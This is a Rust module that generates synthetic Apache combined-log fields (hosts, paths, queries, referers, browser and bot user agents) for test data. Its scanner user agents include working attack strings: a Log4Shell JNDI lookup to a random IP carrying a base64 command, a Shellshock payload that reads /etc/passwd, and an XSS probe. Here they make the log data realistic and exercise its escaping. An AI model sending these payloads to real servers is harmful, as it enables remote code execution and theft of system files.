//! The string pools of `apache-combined`, built once at setup from the setup RNG.
//!
//! Every pool is a [`StrPool`] (one arena, `u32` handles), so a member only holds handles. Text
//! that Apache would escape in the log (`"`, `\` and non-printable bytes in the request, the
//! referer and the user agent) is stored already escaped, the way `mod_log_config` writes it,
//! so encoding is a copy.

use std::fmt::Write as _;

use payforge::BlockRng;
use payforge::kit::ConfRange;
use payforge::kit::{ALNUM_LOWER, LETTERS_LOWER, StrPool, push_random_chars};

use crate::config::Config;

/// Characters of path segments.
const SEGMENT_CHARS: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789-_";

/// Appends `s` as `mod_log_config` writes a logged string: `"` and `\` behind a backslash, bytes
/// that are not printable ASCII as `\xhh`.
pub fn push_escaped(out: &mut String, s: &str) {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    for &b in s.as_bytes() {
        match b {
            b'"' | b'\\' => {
                out.push('\\');
                out.push(char::from(b));
            }
            0x20..=0x7e => out.push(char::from(b)),
            _ => {
                out.push_str("\\x");
                out.push(char::from(HEX[usize::from(b >> 4)]));
                out.push(char::from(HEX[usize::from(b & 0xf)]));
            }
        }
    }
}

/// A number drawn from `lo..=hi`.
fn num(rng: &mut BlockRng, lo: u64, hi: u64) -> u64 {
    rng.inclusive(lo, hi)
}

/// One of `items` (the first for an empty list, which no caller passes).
fn one<'a>(rng: &mut BlockRng, items: &[&'a str]) -> &'a str {
    rng.pick(items).copied().unwrap_or("")
}

/// A public-looking IPv4 address: first octet 1..=223 except 10 and 127, last 1..=254.
fn ipv4(rng: &mut BlockRng) -> [u64; 4] {
    let mut first = num(rng, 1, 221);
    if first >= 10 {
        first += 1;
    }
    if first >= 127 {
        first += 1;
    }
    [first, rng.below(256), rng.below(256), num(rng, 1, 254)]
}

/// Reverse-DNS names as ISPs, clouds and crawlers publish them: a prefix, the address with
/// dashes, a suffix.
const HOST_TEMPLATES: &[(&str, &str)] = &[
    ("c-", ".hsd1.ca.comcast.net"),
    ("c-", ".hsd1.il.comcast.net"),
    ("cpe-", ".nyc.res.rr.com"),
    ("pool-", ".nycmny.fios.verizon.net"),
    ("host-", ".static.as13285.net"),
    ("ec2-", ".compute-1.amazonaws.com"),
    ("ec2-", ".eu-west-1.compute.amazonaws.com"),
    ("crawl-", ".googlebot.com"),
    ("msnbot-", ".search.msn.com"),
    ("ip-", ".ip.secureserver.net"),
    ("", ".bc.googleusercontent.com"),
    ("static.", ".clients.your-server.de"),
];

/// The client pool: `count` hosts, each a hostname with probability `hostname_probability`,
/// else an IPv4 address.
pub fn clients(rng: &mut BlockRng, count: u64, hostname_probability: f64) -> payforge::Result<StrPool> {
    let longest = CLIENT_LEN;
    let mut pool =
        StrPool::with_capacity(count as usize * 16, count as usize, count as usize * longest, "apache clients")?;
    for _ in 0..count {
        let hostname = rng.chance(hostname_probability);
        let [a, b, c, d] = ipv4(rng);
        pool.push_with(longest, |t| {
            if hostname {
                let (prefix, suffix) = rng.pick(HOST_TEMPLATES).copied().unwrap_or(("host-", ".example.net"));
                let _ = write!(t, "{prefix}{a}-{b}-{c}-{d}{suffix}");
            } else {
                let _ = write!(t, "{a}.{b}.{c}.{d}");
            }
        })?;
    }
    Ok(pool)
}

/// User names: lower-case letters, `length` long.
pub fn users(rng: &mut BlockRng, count: u64, length: &ConfRange) -> payforge::Result<StrPool> {
    StrPool::random(rng, count as usize, (length.min() as usize, length.max() as usize), LETTERS_LOWER, "apache users")
}

/// Paths: `/seg/.../seg<ext>` with `depth` segments (`/` for none).
pub fn paths(rng: &mut BlockRng, c: &Config) -> payforge::Result<StrPool> {
    let longest = Bounds::of(c).path;
    let mut pool =
        StrPool::with_capacity(c.paths as usize * 24, c.paths as usize, c.paths as usize * longest, "apache paths")?;
    for _ in 0..c.paths {
        let depth = c.path_depth.sample(rng);
        let ext = rng.pick(&c.path_extensions).map_or("", String::as_str);
        pool.push_with(longest, |t| {
            if depth == 0 {
                t.push('/');
            }
            for _ in 0..depth {
                t.push('/');
                let len = c.path_segment_length.sample_usize(rng);
                push_random_chars(t, rng, len, SEGMENT_CHARS);
            }
            if depth > 0 {
                t.push_str(ext);
            }
        })?;
    }
    Ok(pool)
}

/// Query parameter names.
const QUERY_KEYS: &[&str] = &[
    "id",
    "page",
    "q",
    "sort",
    "lang",
    "limit",
    "offset",
    "ref",
    "v",
    "format",
    "category",
    "session",
    "utm_source",
    "utm_medium",
    "utm_campaign",
    "fbclid",
    "gclid",
];

/// Query strings (without the `?`): `key=value&...` with `params` parameters.
pub fn queries(rng: &mut BlockRng, count: u64, params: &ConfRange) -> payforge::Result<StrPool> {
    let longest = query_len(params);
    let mut pool =
        StrPool::with_capacity(count as usize * 32, count as usize, count as usize * longest, "apache queries")?;
    for _ in 0..count {
        let n = params.sample(rng);
        pool.push_with(longest, |t| {
            for i in 0..n {
                if i > 0 {
                    t.push('&');
                }
                let key = one(rng, QUERY_KEYS);
                t.push_str(key);
                t.push('=');
                match key {
                    "id" | "page" | "limit" | "offset" => {
                        let _ = write!(t, "{}", rng.below(10_000));
                    }
                    "q" => {
                        for w in 0..num(rng, 1, 3) {
                            if w > 0 {
                                t.push('+');
                            }
                            let len = num(rng, 3, 9) as usize;
                            push_random_chars(t, rng, len, LETTERS_LOWER);
                        }
                    }
                    _ => {
                        let len = num(rng, 2, 12) as usize;
                        push_random_chars(t, rng, len, ALNUM_LOWER);
                    }
                }
            }
        })?;
    }
    Ok(pool)
}

/// Referers: about half internal links to `paths` on `site`, the rest search engines and social
/// sites. Stored escaped.
pub fn referers(
    rng: &mut BlockRng,
    count: u64,
    site: &str,
    (paths, queries): (&StrPool, &StrPool),
    longest: usize,
) -> payforge::Result<StrPool> {
    let mut pool =
        StrPool::with_capacity(count as usize * 48, count as usize, count as usize * longest, "apache referers")?;
    let mut raw = payforge::kit::try_string(longest, "apache referers")?;
    for _ in 0..count {
        raw.clear();
        if rng.chance(0.5) {
            let _ = write!(raw, "https://{site}{}", paths.get(paths.pick(rng)));
            if rng.chance(0.2) {
                let _ = write!(raw, "?{}", queries.get(queries.pick(rng)));
            }
        } else {
            external_referer(rng, site, &mut raw);
        }
        pool.push_with(longest, |t| push_escaped(t, &raw))?;
    }
    Ok(pool)
}

fn external_referer(rng: &mut BlockRng, site: &str, t: &mut String) {
    match rng.below(9) {
        0 | 1 => t.push_str("https://www.google.com/"),
        2 => {
            t.push_str("https://www.bing.com/search?q=");
            for w in 0..num(rng, 1, 4) {
                if w > 0 {
                    t.push('+');
                }
                let len = num(rng, 3, 9) as usize;
                push_random_chars(t, rng, len, LETTERS_LOWER);
            }
            t.push_str("&form=QBLH");
        }
        3 => t.push_str("https://duckduckgo.com/"),
        4 => {
            t.push_str("https://t.co/");
            push_random_chars(t, rng, 10, b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
        }
        5 => {
            let _ = write!(t, "https://l.facebook.com/l.php?u=https%3A%2F%2F{site}%2F&h=AT");
            push_random_chars(t, rng, 12, ALNUM_LOWER);
        }
        6 => {
            let _ = write!(t, "https://news.ycombinator.com/item?id={}", num(rng, 38_000_000, 44_999_999));
        }
        7 => {
            t.push_str("https://www.reddit.com/r/");
            let len = num(rng, 4, 12) as usize;
            push_random_chars(t, rng, len, LETTERS_LOWER);
            t.push_str("/comments/");
            push_random_chars(t, rng, 6, ALNUM_LOWER);
            t.push('/');
        }
        _ => t.push_str("android-app://com.google.android.gm/"),
    }
}

/// Desktop platforms as Chromium-based browsers write them.
const DESKTOP: &[&str] = &[
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "X11; CrOS x86_64 14541.0.0",
];
/// Desktop platforms as Firefox writes them.
const FIREFOX_DESKTOP: &[&str] = &[
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10.15",
    "X11; Linux x86_64",
    "X11; Ubuntu; Linux x86_64",
];
/// Android devices (`K` is the reduced user agent's placeholder).
const ANDROID_DEVICES: &[&str] = &["K", "SM-S918B", "SM-A546B", "Pixel 8", "Pixel 7a", "moto g 5G"];

/// Appends a browser user agent: Chrome, Edge, Firefox, Safari on macOS and iOS, or Chrome on
/// Android, with a plausible version.
fn browser(rng: &mut BlockRng, t: &mut String) {
    let chrome = num(rng, 118, 137);
    match rng.below(10) {
        0..=3 => {
            let _ = write!(
                t,
                "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36",
                one(rng, DESKTOP)
            );
        }
        4 => {
            let _ = write!(
                t,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Chrome/{chrome}.0.0.0 Safari/537.36 Edg/{chrome}.0.{}.{}",
                num(rng, 2000, 3300),
                num(rng, 10, 199)
            );
        }
        5 => {
            let v = num(rng, 115, 139);
            let _ = write!(t, "Mozilla/5.0 ({}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", one(rng, FIREFOX_DESKTOP));
        }
        6 => {
            let _ = write!(
                t,
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) \
                 Version/{}.{} Safari/605.1.15",
                num(rng, 16, 18),
                num(rng, 0, 6)
            );
        }
        7 | 8 => {
            let (major, minor) = (num(rng, 16, 18), num(rng, 0, 6));
            let device = if rng.chance(0.8) { "iPhone; CPU iPhone OS" } else { "iPad; CPU OS" };
            let _ = write!(
                t,
                "Mozilla/5.0 ({device} {major}_{minor} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) \
                 Version/{major}.{minor} Mobile/15E148 Safari/604.1"
            );
        }
        _ => {
            let _ = write!(
                t,
                "Mozilla/5.0 (Linux; Android {}; {}) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Chrome/{chrome}.0.0.0 Mobile Safari/537.36",
                num(rng, 10, 15),
                one(rng, ANDROID_DEVICES)
            );
        }
    }
}

/// Appends a crawler, tool or scanner user agent. Scanners send odd text, including quotes and
/// backslashes, which is what the log's escaping is for.
fn bot(rng: &mut BlockRng, t: &mut String) {
    let _ = match rng.below(18) {
        0 | 1 => t.write_str("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        2 => write!(
            t,
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/{}.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            num(rng, 118, 137)
        ),
        3 | 4 => t.write_str("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
        5 => t.write_str("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
        6 => t.write_str("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
        7 => t.write_str("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
        8 => t.write_str("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"),
        9 => t.write_str("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
        10 => write!(t, "curl/{}.{}.{}", num(rng, 7, 8), num(rng, 0, 12), num(rng, 0, 1)),
        11 => write!(t, "python-requests/2.{}.{}", num(rng, 25, 32), num(rng, 0, 3)),
        12 => write!(t, "Go-http-client/{}", if rng.chance(0.7) { "1.1" } else { "2.0" }),
        13 => write!(t, "Wget/1.21.{}", num(rng, 1, 4)),
        14 => write!(
            t,
            "Apache-HttpClient/4.5.{} (Java/{}.0.{})",
            num(rng, 10, 14),
            one(rng, &["11", "17", "21"]),
            num(rng, 1, 20)
        ),
        15 => write!(t, "okhttp/4.{}.{}", num(rng, 9, 12), num(rng, 0, 3)),
        16 => {
            let [a, b, c, d] = ipv4(rng);
            write!(t, "${{jndi:ldap://{a}.{b}.{c}.{d}:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}}")
        }
        _ => t.write_str(one(
            rng,
            &[
                "\"><script>alert(document.domain)</script>",
                "() { :; }; echo; /bin/bash -c \"cat /etc/passwd\"",
                "Mozilla/5.0 zgrab/0.x",
                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                "sqlmap/1.7.2#stable (https://sqlmap.org) C:\\Windows\\",
            ],
        )),
    };
}

/// User agents: a bot with probability `bot_probability`, else a browser. Stored escaped.
pub fn user_agents(rng: &mut BlockRng, count: u64, bot_probability: f64) -> payforge::Result<StrPool> {
    let longest = USER_AGENT_LEN;
    let mut pool =
        StrPool::with_capacity(count as usize * 120, count as usize, count as usize * longest, "apache user agents")?;
    let mut raw = payforge::kit::try_string(longest, "apache user agents")?;
    for _ in 0..count {
        raw.clear();
        if rng.chance(bot_probability) {
            bot(rng, &mut raw);
        } else {
            browser(rng, &mut raw);
        }
        pool.push_with(longest, |t| push_escaped(t, &raw))?;
    }
    Ok(pool)
}

/// Longest client: a hostname template around a dashed IPv4 address.
pub const CLIENT_LEN: usize = 64;
/// Longest escaped user agent (the templates are under 200 characters of printable ASCII).
pub const USER_AGENT_LEN: usize = 400;
/// Longest external referer besides the site's name.
const EXTERNAL_REFERER_LEN: usize = 160;

/// Longest query string for `params` parameters: a key, `=`, a value of at most 29 characters
/// (three words of 9 and two `+`), and `&` between them.
pub fn query_len(params: &ConfRange) -> usize {
    let key = QUERY_KEYS.iter().map(|k| k.len()).max().unwrap_or(0);
    params.max() as usize * (key + 1 + 29 + 1)
}

/// The longest strings of each pool, from the config: what the pools are bounded by and the
/// setup estimate counts.
#[derive(Debug, Clone, Copy)]
pub struct Bounds {
    /// A path.
    pub path: usize,
    /// An escaped referer (escaping at most quadruples a byte).
    pub referer: usize,
}

impl Bounds {
    /// The bounds for a validated `c`.
    pub fn of(c: &Config) -> Self {
        let ext = c.path_extensions.iter().map(String::len).max().unwrap_or(0);
        let path = (c.path_depth.max() as usize * (1 + c.path_segment_length.max() as usize)).max(1) + ext;
        let internal = "https://".len() + c.site.len() + path + 1 + query_len(&c.query_params);
        let referer = 4 * internal.max(EXTERNAL_REFERER_LEN + c.site.len());
        Bounds { path, referer }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escaping_is_apaches() {
        let mut out = String::new();
        push_escaped(&mut out, "a\"b\\c\td\u{7f}é");
        assert_eq!(out, "a\\\"b\\\\c\\x09d\\x7f\\xc3\\xa9");
    }

    #[test]
    fn addresses_are_public_looking() {
        let mut rng = BlockRng::for_setup(1);
        for _ in 0..10_000 {
            let [a, b, c, d] = ipv4(&mut rng);
            assert!((1..=223).contains(&a) && a != 10 && a != 127, "{a}");
            assert!(b < 256 && c < 256 && (1..=254).contains(&d));
        }
    }

    #[test]
    fn user_agents_cover_browsers_and_bots() {
        let mut rng = BlockRng::for_setup(2);
        let pool = user_agents(&mut rng, 20_000, 0.5).unwrap();
        let longest = pool.iter().map(str::len).max().unwrap();
        assert!(longest <= USER_AGENT_LEN, "{longest}");
        let has = |needle: &str| pool.iter().any(|ua| ua.contains(needle));
        for needle in ["Chrome/", "Firefox/", "Edg/", "iPhone", "Android", "Googlebot", "curl/", "\\\"", "\\\\"] {
            assert!(has(needle), "no user agent contains {needle}");
        }
        assert!(pool.iter().all(|ua| !ua.is_empty() && ua.bytes().all(|b| (0x20..=0x7e).contains(&b))));
    }
}
